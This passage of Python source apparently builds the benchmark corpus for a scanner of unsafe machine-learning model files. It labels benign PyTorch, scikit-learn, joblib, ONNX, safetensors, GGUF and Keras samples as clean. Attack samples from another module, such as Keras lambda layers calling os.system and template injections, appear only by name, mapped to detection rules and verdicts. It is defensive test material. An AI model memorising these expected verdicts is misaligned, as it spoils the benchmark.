        "pca": PCA(2).fit(x),
        "onehot": OneHotEncoder().fit([["a"], ["b"]]),
        "tfidf": TfidfVectorizer().fit(["alpha beta gamma", "beta gamma delta"]),
    }


def _sklearn_pickle(key: str, protocol: int = pickle.HIGHEST_PROTOCOL) -> Builder:
    def build(folder: Path) -> Path:
        path = folder / f"sk_{key}_p{protocol}.pkl"
        path.write_bytes(pickle.dumps(_sklearn_estimators()[key], protocol=protocol))
        return path

    return build


def _joblib_file(key: str, compress: object = 0) -> Builder:
    def build(folder: Path) -> Path:
        import joblib

        suffix = "" if not compress else f".{compress[0] if isinstance(compress, tuple) else 'z'}"
        path = folder / f"jl_{key}.joblib{suffix}"
        joblib.dump(_sklearn_estimators()[key], path, compress=compress)  # type: ignore[arg-type]
        return path

    return build


BENIGN: list[tuple[str, Builder]] = [
    ("torch_state_dict", _torch_file("sd.pt", "state_dict")),
    ("torch_full_module", _torch_file("module.pt", "module")),
    ("torch_lstm_state", _torch_file("lstm.pth", "lstm")),
    ("torch_module_embedding", _torch_file("emb.pt", "emb_module")),
    ("torch_optimizer_state", _torch_file("optim.pt", "optimizer")),
    ("torch_mixed_dtypes", _torch_file("mixed.bin", "mixed")),
    ("torch_legacy_state_dict", _torch_file("legacy_sd.pt", "state_dict", legacy=True)),
    ("torch_legacy_mixed", _torch_file("legacy_mixed.pt", "mixed", legacy=True)),
    ("torchscript_module", _torchscript_file("scripted.pt")),
    ("numpy_npy", _numpy_file("w.npy", "npy")),
    ("numpy_npy_object", _numpy_file("objects.npy", "npy_object")),
    ("numpy_npz", _numpy_file("w.npz", "npz")),
    ("numpy_npz_compressed", _numpy_file("wc.npz", "npz_compressed")),
    ("sklearn_logreg", _sklearn_pickle("logreg")),
    ("sklearn_logreg_proto0", _sklearn_pickle("logreg", 0)),
    ("sklearn_logreg_proto2", _sklearn_pickle("logreg", 2)),
    ("sklearn_ridge", _sklearn_pickle("ridge")),
    ("sklearn_forest", _sklearn_pickle("forest")),
    ("sklearn_gboost", _sklearn_pickle("gboost")),
    ("sklearn_pipeline", _sklearn_pickle("pipeline")),
    ("sklearn_knn", _sklearn_pickle("knn")),
    ("sklearn_pca", _sklearn_pickle("pca")),
    ("sklearn_onehot", _sklearn_pickle("onehot")),
    ("sklearn_tfidf", _sklearn_pickle("tfidf")),
    ("joblib_forest", _joblib_file("forest")),
    ("joblib_tree", _joblib_file("tree")),
    ("joblib_pipeline", _joblib_file("pipeline")),
    ("joblib_logreg_zlib", _joblib_file("logreg", ("zlib", 3))),
    ("joblib_knn_gzip", _joblib_file("knn", ("gzip", 3))),
    ("joblib_pca_xz", _joblib_file("pca", ("xz", 3))),
]

CORPUS: list[tuple[str, Builder, str]] = [
    *((n, b, "malicious") for n, b, _ in MALICIOUS),
    *((n, b, "suspicious") for n, b, _ in SUSPICIOUS),
    *((n, b, "clean") for n, b in BENIGN),
]


# Names of the pickle-family and archive samples, fixed before the other formats are appended.
PICKLE_FAMILY: frozenset[str] = frozenset(n for n, *_ in [*MALICIOUS, *SUSPICIOUS, *BENIGN])


# -- other formats: Keras, HDF5, SavedModel, ONNX, safetensors, GGUF, chat templates -------
# Builders live in _formats_samples (shared with their tests); appended here so the
# benchmark runs every format. Medium-severity rules give a "suspicious" verdict.
def _append_other_formats() -> None:
    import json as _json

    import _formats_samples as fs

    suspicious_rules = {
        "keras-custom-object", "keras-unexpected-member", "onnx-custom-op-domain",
        "onnx-tensor-size-mismatch", "safetensors-size-mismatch", "safetensors-header-truncated",
        "safetensors-metadata-not-string", "gguf-invalid-metadata", "gguf-tensor-invalid",
        "template-include",
    }  # fmt: skip
    suffix = {"keras": ".keras", "savedmodel": "_saved_model.pb", "gguf": ".gguf",
              "safetensors": ".safetensors", "onnx": ".onnx"}  # fmt: skip
    groups = {
        "keras": fs.KERAS_ATTACKS, "savedmodel": fs.SAVEDMODEL_ATTACKS, "gguf": fs.GGUF_ATTACKS,
        "safetensors": fs.SAFETENSORS_ATTACKS, "onnx": fs.ONNX_ATTACKS,
    }  # fmt: skip
    for group, attacks in groups.items():
        for technique, (make, rule) in attacks.items():
            entry = (f"{group}_{technique}", _bytes_builder(f"{technique}{suffix[group]}", make),
                     rule)  # fmt: skip
            (SUSPICIOUS if rule in suspicious_rules else MALICIOUS).append(entry)
    for technique, (template, kind) in fs.SSTI_TEMPLATES.items():
        rule = f"template-{kind}"
        build = _bytes_builder(f"{technique}.jinja", lambda t=template: t.encode())
        entry = (f"template_{technique}", build, rule)
        (SUSPICIOUS if rule in suspicious_rules else MALICIOUS).append(entry)

    def h5(name: str, config: dict[str, object]) -> Builder:
        return lambda folder: fs.legacy_h5(folder, name, config)

    MALICIOUS.append(("hdf5_legacy_lambda", h5("lambda.h5", fs.HDF5_LAMBDA_LEGACY),
                      "keras-lambda-layer"))  # fmt: skip
    MALICIOUS.append(("hdf5_lambda_os_system", h5("os.h5", fs.HDF5_LAMBDA_FUNCTION_OS_SYSTEM),
                      "keras-unsafe-module"))  # fmt: skip
    MALICIOUS.append(("keras_lambda_saved_by_keras", fs.keras_lambda_file, "keras-lambda-layer"))

    def keras_file(name: str, ext: str) -> Builder:
        return lambda folder: fs.keras_benign_file(folder, name, ext)

    for name, ext in fs.KERAS_BENIGN:
        BENIGN.append((f"keras_{name}{ext.replace('.', '_')}", keras_file(name, ext)))

    def onnx_file(name: str) -> Builder:
        def build(folder: Path) -> Path:
            import onnx

            p = folder / f"{name}.onnx"
            onnx.save_model(fs.onnx_models()[name], str(p))  # type: ignore[arg-type]
            return p

        return build

    BENIGN.extend(
        (f"onnx_{name}", onnx_file(name))
        for name in ("mlp", "com_microsoft", "if_subgraph", "onnx_ml")
    )
    BENIGN.extend((f"safetensors_{b.__name__}", b) for b in fs.SAFETENSORS_BENIGN)
    BENIGN.extend(
        (f"gguf_v{v}", _bytes_builder(f"tiny_v{v}.gguf", lambda v=v: fs.gguf_benign(v)))
        for v in (1, 2, 3)
    )
    BENIGN.append(("tf_savedmodel", _bytes_builder("saved_model.pb", fs.savedmodel_benign)))
    BENIGN.append(("tf_frozen_graph", _bytes_builder("frozen.pb", fs.frozen_graph_benign)))
    for name, template in fs.BENIGN_TEMPLATES.items():
        BENIGN.append((f"chat_template_{name}", _bytes_builder(
            f"{name}_tokenizer_config.json",
            lambda t=template: _json.dumps({"chat_template": t}).encode())))  # fmt: skip


_append_other_formats()
CORPUS[:] = [
    *((n, b, "malicious") for n, b, _ in MALICIOUS),
    *((n, b, "suspicious") for n, b, _ in SUSPICIOUS),
    *((n, b, "clean") for n, b in BENIGN),
]
